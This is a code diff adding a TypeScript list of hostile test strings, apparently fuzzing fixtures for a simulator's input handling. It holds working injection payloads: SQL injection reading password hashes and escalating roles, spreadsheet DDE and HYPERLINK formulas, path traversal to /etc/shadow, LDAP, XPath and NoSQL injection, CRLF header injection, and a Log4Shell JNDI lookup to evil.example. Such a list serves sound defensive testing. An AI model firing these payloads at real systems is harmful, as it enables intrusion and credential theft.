@@ -1,0 +1,76 @@
+import { hostileStrings } from '../simulator/phone/hostile-strings';
+
+/** More than breaks a page: what breaks databases, sheets, files, patterns, readers and people. */
+const MORE: readonly string[] = [
+  // SQL, and the search inside of it.
+  "' OR '1'='1",
+  "1; UPDATE staff SET role='owner'",
+  "' UNION SELECT password_hash FROM staff --",
+  "'||(SELECT pg_sleep(9))||'",
+  '%_%\\%',
+  '$1 ? ?? :name ::text',
+  '\\x27 OR 1=1 /*',
+  '"; PRAGMA writable_schema=1; --',
+  // Sheets.
+  '=HYPERLINK("http://evil.example","x")',
+  '+1+cmd|calc',
+  '-2+3+cmd|calc',
+  '@SUM(1+1)*cmd|calc',
+  '\t=1+1',
+  '\r=1+1',
+  '＝1+1',
+  '",=1+1,"',
+  // Paths, files and front matter.
+  '/etc/passwd\u0000.md',
+  'C:\\con\\nul',
+  '....//....//etc/shadow',
+  'file:///etc/passwd',
+  '---\nid: other\n---\n## 日本語\nx',
+  '## English\n\nnot what was meant',
+  '!!js/function function(){}',
+  '&a [*a,*a,*a]',
+  '{{shop.name}}{{shop.phone}}{{nothing}}{{{{',
+  // JSON, regular expressions, XPath, LDAP, headers, logs.
+  '{"$ne":null}',
+  '[[[[[[[[[[[[[[[[[[[[',
+  '(a+)+$',
+  '^(?:a|aa)+\\b[\\s\\S]*?$(?<=x)',
+  "' or count(/*)=1 or 'a'='b",
+  '*)(uid=*))(|(uid=*',
+  'x%0d%0aLocation:%20//evil.example',
+  '\u001b[2J\u001b]0;owned\u0007',
+  '${jndi:ldap://evil.example/x}',
+  // What cannot be seen, or is not what it looks like.
+  '\u0000',
+  '\u0007\u0008\u000b\u000c\u000e\u001f\u007f\u0085',
+  '\u200b\u200c\u200d\u2060\ufeff',
+  '\u202e\u2066\u2067\u2068abc',
+  'abc\u2069\u202c\u202d123',
+  'مرحبا <b>שלום</b> 123',
+  '\u061c\u200f\u200e',
+  'раураl.com аdmin',
+  '\ufdfa'.repeat(60),
+  'a' + '\u0301'.repeat(400),
+  '\u1112\u1161\u11ab'.repeat(40),
+  '\udfff\ud800\udbff',
+  '\uffff\ufffe\u{10ffff}',
+  '\u{e0041}\u{e0042}\u{e007f}',
+  '🏴󠁧󠁢󠁥󠁮󠁧󠁿👩🏽‍❤️‍💋‍👨🏿1️⃣',
+  'ﾊﾟﾋﾟﾌﾟ㌀㍿ﬁ①Ⅳ',
+  // Very long, and very many.
+  'あ'.repeat(1900),
+  '<b>'.repeat(300),
+  '&'.repeat(600),
+  ' '.repeat(500) + 'x',
+  '\n'.repeat(300) + 'x',
+  '0'.repeat(400),
+  '1e309',
+  'NaN',
+  'null',
+  'undefined',
+  'true',
+  '[object Object]',
+];
+
+/** Over a hundred and fifty of them, each once. */
+export const hostile: readonly string[] = [...new Set([...hostileStrings, ...MORE])];
